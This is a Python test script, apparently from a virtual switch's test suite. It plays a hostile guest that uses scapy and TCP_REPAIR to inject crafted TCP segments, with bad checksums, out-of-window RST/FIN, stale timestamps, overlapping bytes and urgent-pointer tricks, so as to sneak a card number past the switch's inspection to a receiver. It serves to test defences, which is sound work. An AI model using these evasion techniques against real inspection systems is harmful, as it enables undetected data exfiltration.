#!/usr/bin/python3
"""Evasion techniques of a hostile guest against the switch's inspection, each on its own TCP
connection to a real Linux receiver across the switch.

  evasion.py sink ADDR PORT DIR        the receiver: writes what its application reads from each
                                       connection to DIR/<client port>.bin, DIR/<port>.end at close
  evasion.py attack DST PORT OUT.json  the attacker (root in the VM): for each technique, a real
                                       connection by the kernel, then crafted segments with scapy
                                       at the sequence numbers the kernel uses (read with TCP_REPAIR)

Each technique sends a flawed copy of a segment (one its receiver discards, or that would move
where an inspector reads) and then the payment card the flaw was meant to hide. The receiver's
stack, not this script, decides what was delivered: the test reads DIR.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

CARD = b"4556 7375 8689 9855"
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, TCP_TIMESTAMP = 19, 20, 21, 24
TCP_RECV_QUEUE, TCP_SEND_QUEUE = 1, 2


def sink(addr, port, out):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, int(port)))
    srv.listen(64)

    def serve(c, peer):
        with open(os.path.join(out, "%d.bin" % peer[1]), "wb") as f:
            try:
                while True:
                    b = c.recv(65536)
                    if not b:
                        break
                    f.write(b)
                    f.flush()
            except OSError:
                pass
        open(os.path.join(out, "%d.end" % peer[1]), "w").close()
        c.close()

    while True:
        c, peer = srv.accept()
        threading.Thread(target=serve, args=(c, peer), daemon=True).start()


def attack(dst, port, out):
    from scapy.all import IP, TCP, Ether, Raw, conf, get_if_hwaddr, sendp
    conf.verb = 0
    port = int(port)
    iface = "eth0"
    src_mac = get_if_hwaddr(iface)
    results = {}

    def neighbour_mac():
        for line in open("/proc/net/arp").read().splitlines()[1:]:
            f = line.split()
            if f[0] == dst and f[3] != "00:00:00:00:00:00":
                return f[3]
        return None

    def connect():
        s = socket.create_connection((dst, port), timeout=5)
        # The kernel's next sequence numbers, read without disturbing the connection.
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
        snd = struct.unpack("I", s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4))[0]
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_RECV_QUEUE)
        rcv = struct.unpack("I", s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4))[0]
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
        ts = struct.unpack("I", s.getsockopt(socket.IPPROTO_TCP, TCP_TIMESTAMP, 4))[0]
        return s, s.getsockname()[1], snd, rcv, ts

    mac = None

    def seg(lport, seq, ack, payload=b"", flags="PA", ip_kw=None, tcp_kw=None, ts=None):
        ip = IP(src=SRC, dst=dst, **(ip_kw or {}))
        opts = [("NOP", None), ("NOP", None), ("Timestamp", (ts, 0))] if ts is not None else []
        t = TCP(sport=lport, dport=port, seq=seq & 0xffffffff, ack=ack & 0xffffffff, flags=flags, window=502, options=opts,
                **(tcp_kw or {}))
        p = Ether(src=src_mac, dst=mac) / ip / t
        return p / Raw(payload) if payload else p

    def send(*pkts):
        for p in pkts:
            sendp(p, iface=iface)

    techniques = {}

    def technique(fn):
        techniques[fn.__name__] = fn
        return fn

    JUNK = b"x" * len(b"card " + CARD + b" ")
    REAL = b"card " + CARD + b" "

    @technique
    def bad_tcp_checksum(lport, snd, rcv, ts):
        send(seg(lport, snd, rcv, JUNK, tcp_kw={"chksum": 0x1234}, ts=ts + 1), seg(lport, snd, rcv, REAL, ts=ts + 2))

    @technique
    def bad_ip_checksum(lport, snd, rcv, ts):
        send(seg(lport, snd, rcv, JUNK, ip_kw={"chksum": 0x1234}, ts=ts + 1), seg(lport, snd, rcv, REAL, ts=ts + 2))

    @technique
    def no_ack_flag(lport, snd, rcv, ts):
        send(seg(lport, snd, rcv, JUNK, flags="P", ts=ts + 1), seg(lport, snd, rcv, REAL, ts=ts + 2))

    @technique
    def ack_of_unsent_data(lport, snd, rcv, ts):
        send(seg(lport, snd, rcv + 1000000, JUNK, ts=ts + 1), seg(lport, snd, rcv, REAL, ts=ts + 2))

    @technique
    def paws_old_timestamp(lport, snd, rcv, ts):
        # A first clean segment moves the receiver's kept timestamp on; the junk carries an older one.
        send(seg(lport, snd, rcv, b"hello ", ts=ts + 1000), seg(lport, snd + 6, rcv, JUNK, ts=ts + 10),
             seg(lport, snd + 6, rcv, REAL, ts=ts + 2000))

    @technique
    def rst_out_of_window(lport, snd, rcv, ts):
        send(seg(lport, snd + 50000000, rcv, flags="R"), seg(lport, snd, rcv, REAL, ts=ts + 1))

    @technique
    def fin_out_of_window(lport, snd, rcv, ts):
        send(seg(lport, snd + 50000000, rcv, flags="FA", ts=ts + 1), seg(lport, snd, rcv, REAL, ts=ts + 2))

    @technique
    def far_beyond_window(lport, snd, rcv, ts):
        send(*[seg(lport, snd + (1 << 30) + 1400 * k, rcv, b"y" * 1400, ts=ts + 1) for k in range(4)])
        send(seg(lport, snd, rcv, REAL, ts=ts + 2))

    @technique
    def second_syn_other_isn(lport, snd, rcv, ts):
        send(seg(lport, snd + 7777777, 0, flags="S"), seg(lport, snd, rcv, REAL, ts=ts + 1))

    @technique
    def overlap_different_bytes(lport, snd, rcv, ts):
        # Out of order: junk, then the card's second half at the same place; then the hole's filler.
        half = len(b"card 4556 7375 ")
        send(seg(lport, snd + half, rcv, b"z" * (len(REAL) - half), ts=ts + 1),
             seg(lport, snd + half, rcv, REAL[half:], ts=ts + 2), seg(lport, snd, rcv, REAL[:half], ts=ts + 3))

    @technique
    def value_completed_last(lport, snd, rcv, ts):
        # The card's last digits end the stream's bytes so far: no byte after them, no FIN.
        first = b"card 4556 7375 "
        send(seg(lport, snd, rcv, first, ts=ts + 1), seg(lport, snd + len(first), rcv, b"8689 9855", ts=ts + 2))

    @technique
    def urgent_byte(lport, snd, rcv, ts):
        # Linux takes the urgent byte (X) out of the stream: the application would read the card.
        data = b"card 4556 7375 8689 X9855 "
        send(seg(lport, snd, rcv, data, flags="PAU", tcp_kw={"urgptr": data.index(b"X") + 1}, ts=ts + 1))

    for name, fn in techniques.items():
        s, lport, snd, rcv, ts = connect()
        if mac is None:
            mac = neighbour_mac()
        fn(lport, snd, rcv, ts)
        results[name] = lport
        s.close()
    json.dump(results, open(out, "w"))


if __name__ == "__main__":
    if sys.argv[1] == "sink":
        sink(*sys.argv[2:5])
    else:
        SRC = os.environ.get("GG_SRC", "10.0.0.1")
        attack(*sys.argv[2:5])
